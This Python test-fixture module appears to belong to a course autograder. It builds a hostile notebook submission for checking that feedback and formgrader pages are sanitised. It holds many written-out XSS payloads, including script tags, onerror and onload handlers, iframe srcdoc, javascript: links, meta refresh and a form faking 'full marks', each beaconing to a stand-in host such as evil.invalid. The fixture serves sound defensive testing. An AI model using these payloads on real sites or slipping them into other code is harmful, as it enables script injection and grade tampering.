"""A submission that attacks the pages showing it: the feedback HTML and the formgrader.

``hostile_submission`` starts from a sample submission (``sample_class.make_submission``) and adds
what a student can put in front of a browser: markdown cells with live HTML, markdown links and
images, attachments, and code cells whose outputs are HTML, JavaScript, SVG, markdown, and images
whose metadata names a remote file.  Every attack, if it ran, would record itself in the page
(``window.__pwned``, ``document.title``) and ask ``url`` for ``/<attack>``; next to each stands an
honest sentence, ``HONEST <attack>``, that must stay readable once the page is sanitised
(autograder.course.sanitize).  The tests point ``url`` at a listener of their own on 127.0.0.1, or
at ``.invalid`` (a name that never resolves) where nothing is fetched.
"""

from __future__ import annotations

import copy
import json

import nbformat

from autograder.tools.sample_class import make_submission

# a 1x1 PNG: an honest image
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
       "rkJggg==")


def script(name, url, scope="window"):
    """JavaScript that, if it runs, leaves three marks on ``scope`` (the page, or an iframe's
    ``parent``): ``__pwned`` names the attack, the title says PWNED, ``url/<name>`` is asked for.
    It ends in ``void 0``: a javascript: link whose code has a value replaces the page by it."""
    return (f"({scope}.__pwned = {scope}.__pwned || []).push('{name}'); "
            f"{scope}.document.title = 'PWNED {name}'; new Image().src = '{url}/{name}'; void 0;")


def html_attacks(url):
    """{name: HTML} of the attacks that live HTML can carry (in markdown or in an output)."""
    js = {name: script(name, url) for name in
          ("script", "onerror", "svg-onload", "svg-script", "link", "details")}
    js["iframe-srcdoc"] = script("iframe-srcdoc", url, scope="parent")
    return {
        "script": f"<script>{js['script']}</script>",
        "onerror": f'<img src="x" onerror="{js["onerror"]}">',
        "svg": (f'<svg width="10" height="10" onload="{js["svg-onload"]}"><script>'
                f'{js["svg-script"]}</script><image href="{url}/svg-image.png"/></svg>'),
        "iframe": (f'<iframe src="{url}/iframe"></iframe>'
                   f'<iframe srcdoc="<script>{js["iframe-srcdoc"]}</script>"></iframe>'),
        "javascript-link": f'<a href="javascript:{js["link"]}">click me</a>',
        "style-import": f"<style>@import url({url}/style-import.css);</style>",
        "style-background": (f'<span style="background: url({url}/style-background.png); '
                             f'color: red">red</span>'),
        "remote-image": f'<img src="{url}/remote-image.png" alt="remote">',
        "meta-refresh": f'<meta http-equiv="refresh" content="0; url={url}/meta-refresh">',
        "base": f'<base href="{url}/base/">',
        "form": (f'<form action="{url}/form"><input name="grade" value="full marks">'
                 f'<button type="submit">Submit</button></form>'),
        "object": f'<object data="{url}/object"></object><embed src="{url}/embed">',
        "handler": f'<details open ontoggle="{js["details"]}"><summary>more</summary></details>',
    }


def markdown_attacks(url):
    """{name: (markdown, attachments)} of attacks in markdown's own syntax and attachments."""
    return {
        "md-javascript-link": (f"[click me](<javascript:{script('md-javascript-link', url)}>)", {}),
        "md-remote-image": (f"![remote]({url}/md-remote-image.png)", {}),
        # an attachment the cell refers to but does not carry: nbconvert stops on it, and one such
        # notebook fails the feedback run of the whole class
        "md-missing-attachment": ("![gone](attachment:gone.png)", {}),
        "md-attachment-types": ("![pic](attachment:pic.png)", {"pic.png": {
            "image/png": PNG,
            "text/html": f"<script>{script('md-attachment-html', url)}</script>"}}),
    }


def output_attacks(url):
    """{name: code} of code cells whose outputs attack the page (run in the student's kernel)."""
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
           f'onload="{script("svg-output-onload", url)}"><script>'
           f'{script("svg-output-script", url)}</script>'
           f'<image href="{url}/svg-output-image.png" width="5" height="5"/></svg>')
    return {
        "out-javascript": f"display(Javascript({script('out-javascript', url)!r}))",
        "out-svg": f"display(SVG({svg!r}))",
        "out-markdown": ("display(Markdown("
                         f"{'[click me](<javascript:' + script('out-markdown', url) + '>)'!r} + "
                         f"{' ![r](' + url + '/out-markdown.png)'!r}))"),
        "out-filenames": (f"display({{'image/png': {PNG!r}}}, raw=True, metadata="
                          f"{{'filenames': {{'image/png': {url + '/out-filenames.png'!r}}}}})"),
        "out-isolated": (f"display({{'text/html': {'<script>' + script('out-isolated', url) + '</script>'!r}}}, "
                         "raw=True, metadata={'text/html': {'isolated': True}})"),
        "out-widget-view": ("display({'application/vnd.jupyter.widget-view+json': "
                            "{'model_id': 'x', 'version_major': 2, 'version_minor': 0}, "
                            "'text/plain': 'a widget'}, raw=True)"),
    }


HONEST_MARKDOWN = ("## HONEST answer\n\nThe loss is $L = \\frac{1}{N} \\sum_n (y_n - d_n)^2$, "
                   "and $a < b$ holds.\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n"
                   f"`np.mean` is used. ![dot](data:image/png;base64,{PNG})\n")


def hostile_cells(url):
    """[(attack name, cell)] of the cells a hostile student adds, each attack beside an honest
    sentence; the first two are honest only (markdown with math, a table, code and an image;
    outputs with an image and a table)."""
    new = nbformat.v4
    imports = "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    cells = [("honest-markdown", new.new_markdown_cell(HONEST_MARKDOWN)),
             ("honest-outputs", new.new_code_cell(
                 "from IPython.display import HTML, Image, display\nimport base64\n"
                 f"display(Image(data=base64.b64decode({PNG!r})))\n"
                 "display(HTML('<table><tr><th>HONEST table</th></tr><tr><td>1.5</td></tr>"
                 "</table>'))\nprint('HONEST printed')"))]
    for name, html in html_attacks(url).items():
        # in a <div> block: markdown passes it to the page as it is (no emphasis inside scripts)
        cells.append((f"md {name}", new.new_markdown_cell(
            f"HONEST md {name}.\n\n<div>\n{html}\n</div>\n\nHONEST after md {name}.")))
    for name, (markdown, attachments) in markdown_attacks(url).items():
        cell = new.new_markdown_cell(f"HONEST {name}. {markdown} HONEST after {name}.")
        if attachments:
            cell.attachments = copy.deepcopy(attachments)
        cells.append((name, cell))
    for name, html in html_attacks(url).items():
        cells.append((f"html {name}", new.new_code_cell(
            f"{imports}print('HONEST out {name}.')\n"
            f"display(HTML({'HONEST html ' + name + '. ' + html!r}))")))
    for name, code in output_attacks(url).items():
        cells.append((name, new.new_code_cell(f"{imports}print('HONEST {name}.')\n{code}")))
    return cells


def hostile_submission(source_nb, release_nb, url):
    """A "partial" submission (some tests fail, with their messages) plus every attack: in its
    first markdown cell (the instructor's, which the student may edit), in an answer's output, and
    in cells of its own."""
    nb = make_submission("partial", source_nb, release_nb)
    first = next(cell for cell in nb.cells if cell.cell_type == "markdown")
    first.source += f"\n\nHONEST edited intro.\n\n{html_attacks(url)['script']}\n"
    answer = next(cell for cell in nb.cells if cell.cell_type == "code"
                  and cell.metadata.get("nbgrader", {}).get("solution"))
    answer.source += ("\nfrom IPython.display import HTML, display\n"
                      f"display(HTML({'HONEST answer output. ' + html_attacks(url)['onerror']!r}))")
    nb.cells.extend(cell for _, cell in hostile_cells(url))
    return nb


if __name__ == "__main__":          # print the cells, to read them
    print(json.dumps({name: c for name, c in hostile_cells("http://evil.invalid")}, indent=1))
